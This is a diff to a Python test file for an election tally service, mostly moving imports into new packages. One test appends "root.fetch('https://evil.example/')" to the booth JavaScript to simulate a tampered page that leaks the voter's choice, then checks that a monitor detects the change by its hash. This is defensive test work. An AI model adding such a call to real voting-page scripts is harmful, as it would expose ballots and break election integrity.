@@ -19,15 +19,15 @@ from crypto.cosignature import TYPE_ED25519, Cosigner
 from crypto.merkle import MerkleTree, leaf_hash
 from crypto.note import parse_note
 from crypto.witness_policy import manifest_section
+from scripts.builders.sample import build_election
+from scripts.builders.simulate import SimulatedElection, _local_witnesses, cast_round, run_election
 from scripts.verifier.follow_state import MIRROR
-from tally_service import results, tally
-from tally_service.app import create_app
-from tally_service.config import Config
-from tally_service.election import Election
-from tally_service.export import export_record
-from tally_service.sample import build_election
-from tally_service.simulate import SimulatedElection, _local_witnesses, cast_round, run_election
-from tally_service.witnessing import accept_posted
+from tally_service.service import results, tally
+from tally_service.service.app import create_app
+from tally_service.service.config import Config
+from tally_service.service.election import Election
+from tally_service.service.export import export_record
+from tally_service.service.witnessing import accept_posted
 from tests.follow_helpers import Follower, RecordService, Report, ThreadServer
 from tests.verify_helpers import (
     PYTHON,
@@ -697,13 +697,13 @@ def test_a_service_that_serves_a_changed_booth_js_is_caught_with_evidence(
     """The real service, its election sealed with the project's booth files, started with a
     booth.js that also posts the elector's choice elsewhere (and the page that loads it, with
     that file's SRI hash): the monitor's first poll fails V1 on both, the bytes served kept."""
-    import tally_service.pages
+    import tally_service.service.pages
 
     static = tmp_path / "static"
-    shutil.copytree(tally_service.pages.STATIC, static)
+    shutil.copytree(tally_service.service.pages.STATIC, static)
     evil = (static / "js" / "booth.js").read_bytes() + b"\nroot.fetch('https://evil.example/');\n"
     (static / "js" / "booth.js").write_bytes(evil)
-    monkeypatch.setattr(tally_service.pages, "STATIC", static)
+    monkeypatch.setattr(tally_service.service.pages, "STATIC", static)
     shutil.copytree(finished.data_dir, tmp_path / "data")  # the module's election stays as is
     election = Election(tmp_path / "data", Config())
     app = create_app(election)
